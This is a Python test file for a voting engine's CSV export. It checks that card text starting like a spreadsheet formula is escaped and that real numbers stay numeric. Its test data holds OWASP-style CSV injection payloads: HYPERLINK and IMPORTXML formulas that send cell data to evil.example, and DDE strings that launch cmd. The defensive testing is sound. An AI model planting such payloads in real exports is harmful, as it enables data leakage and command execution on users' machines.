"""Card text that starts like a spreadsheet formula reaches no CSV as a live formula."""

from __future__ import annotations

import csv
import io

import pytest

import essaim
from essaim import FACILITATOR, Command
from essaim.plugin.spreadsheet import FORMULA_TRIGGERS, csv_bytes, spreadsheet_safe
from essaim.testing import make_template

TEMPLATE = make_template(
    ("collect", {"type": "evaluate", "strategy": "agree_disagree", "settings": {"min_votes": 1}},
     {"type": "results", "auto_advance": False}),
    title="=HYPERLINK(\"https://evil.example/\";\"title\")",
)

#: What an attacker with the join code writes (OWASP's examples and a
#: French-locale ";" variant), each still a fine idea for the crowd to vote on.
HOSTILE_CARDS = [
    '=HYPERLINK("https://evil.example/?leak="&A2, "Click for more ideas")',
    "+ideas welcome",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C notepad'!A1 about the canteen",
    "\r=1+1 in the meeting rooms",
    "   =IMPORTXML(CONCAT(\"https://evil.example/?\", A2), \"//a\")",
    "Better parking;=HYPERLINK(\"https://evil.example\")",
]


def _is_live_formula(cell: str) -> bool:
    stripped = cell.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


async def _campaign(engine: essaim.Engine) -> str:
    created = await engine.create_campaign(TEMPLATE)
    cid = created.campaign_id
    actors = [engine.authenticate(cid, (await engine.join(cid, {})).token) for _ in HOSTILE_CARDS]
    await engine.execute(cid, FACILITATOR, Command("start"))
    for actor, text in zip(actors, HOSTILE_CARDS):
        await engine.execute(cid, actor, Command("write_card", {"text": text}))
    await engine.execute(cid, FACILITATOR, Command("advance"))
    for n, actor in enumerate(actors):
        while (task := await engine.next_task(cid, actor.pid)) is not None:
            vote = ("agree", "disagree")[n % 2]
            await engine.execute(cid, actor, Command("evaluate", {"kind": "vote",
                                                                  "data": {"iid": task.payload["iid"], "vote": vote}}))
    await engine.execute(cid, FACILITATOR, Command("advance"))
    return cid


async def test_no_csv_export_carries_a_live_formula_and_numbers_stay_numbers() -> None:
    async with essaim.open_engine(None) as engine:
        cid = await _campaign(engine)
        exported = [*await engine.export(cid, "csv"), *await engine.export(cid, "polis")]
        assert {f.name for f in exported} >= {"results.csv", "comments.csv", "comment-groups.csv", "summary.csv"}
        for f in exported:
            for row in _cells(f.content):
                live = [cell for cell in row if _is_live_formula(cell) and not _number(cell)]
                assert not live, f"{f.name} has live formulas: {live}"
        by_name = {f.name: f for f in exported}
        # The hostile text is all there, only marked as text.
        titles = {row[2] for row in _cells(by_name["results.csv"].content)[1:]}
        assert "'" + HOSTILE_CARDS[0] in titles and "'" + HOSTILE_CARDS[6].strip() in titles
        assert HOSTILE_CARDS[7] in titles  # starts with a letter; quoted, so ";" cannot split it
        assert '"' + HOSTILE_CARDS[7].replace('"', '""') + '"' in by_name["results.csv"].content.decode()
        # Real numbers are written bare: a Pol.is vote of -1 is a number, not text with a quote.
        votes = _cells(by_name["votes.csv"].content)[1:]
        assert {row[4] for row in votes} == {"1", "-1"}
        assert ",-1\r\n" in by_name["votes.csv"].content.decode()
        for row in _cells(by_name["results.csv"].content)[1:]:
            float(row[3]), float(row[4]), float(row[5])  # score, low, high


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("+33 idea", "'+33 idea"),
    ("-minus", "'-minus"),
    ("@mention", "'@mention"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("  =1+1", "'  =1+1"),
    ("\n@x", "'\n@x"),
    ("plain idea", "plain idea"),
    ("a=b", "a=b"),
    ("", ""),
    ("-12", "-12"),
    ("+3.5", "+3.5"),
    ("-", "'-"),
    (-1, -1),
    (0.25, 0.25),
    (None, None),
])
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected


def test_csv_bytes_quotes_text_and_leaves_numbers_bare() -> None:
    assert csv_bytes([["=x", 'say "hi"', -1, 2.5, None]]) == b'"\'=x","say ""hi""",-1,2.5,""\r\n'
